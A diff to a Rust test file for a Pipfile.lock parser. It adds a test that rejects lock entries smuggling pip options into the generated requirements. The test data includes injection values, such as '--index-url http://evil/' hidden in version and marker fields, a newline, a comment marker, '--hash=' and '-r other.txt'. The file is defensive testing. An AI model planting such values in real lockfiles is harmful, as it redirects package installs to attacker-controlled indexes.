@@ -187,6 +187,51 @@ fn bad_input_is_an_error_naming_file_and_line() {
 }
 
 #[test]
+fn a_lock_cannot_smuggle_anything_into_the_requirements_pip_resolves() {
+    let hash = "0".repeat(64);
+    let cases = [
+        // Found by the fuzzer: a name pip reads as a name and a specifier.
+        (
+            r#""bott<=le": {"version": "==0.13.4"}"#,
+            "\"bott<=le\" is not a Python project name",
+        ),
+        (r#""a b": {"git": "x"}"#, "is not a Python project name"),
+        (
+            r#""six": {"version": "==1.0 --index-url http://evil/"}"#,
+            "six is pinned to \"1.0 --index-url http://evil/\", not a version",
+        ),
+        (
+            r#""six": {"version": "==1.0", "markers": "python_version >= '3'\n--index-url http://evil/"}"#,
+            "the markers of six are not a marker pip reads",
+        ),
+        (
+            r#""six": {"version": "==1.0", "markers": "python_version >= '3' # comment"}"#,
+            "the markers of six are not a marker pip reads",
+        ),
+        (
+            r#""six": {"version": "==1.0", "markers": "python_version >= '3' \\"}"#,
+            "the markers of six are not a marker pip reads",
+        ),
+        (
+            &format!(
+                r#""six": {{"version": "==1.0", "markers": "os_name == 'posix' --hash=sha256:{hash}"}}"#
+            ),
+            "does not make a requirement pip reads as that pin",
+        ),
+        (
+            r#""six": {"version": "==1.0", "markers": "python_version >= '3' -r other.txt"}"#,
+            "does not make a requirement pip reads as that pin",
+        ),
+    ];
+    for (entry, message) in cases {
+        let text = format!("{{\"default\": {{\n{entry}}}}}");
+        let err = parse("Pipfile.lock", &text).unwrap_err();
+        assert_eq!(err.line, Some(2), "{text}: {err}");
+        assert!(err.message.contains(message), "{text}: {err}");
+    }
+}
+
+#[test]
 fn hashes_of_other_algorithms_are_left_out_and_triple_equals_is_a_pin() {
     let text = r#"{"default": {"a": {"version": "===1.0", "hashes": ["md5:00", "sha256:ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789"]}}}"#;
     let locked = parse("Pipfile.lock", text).unwrap();
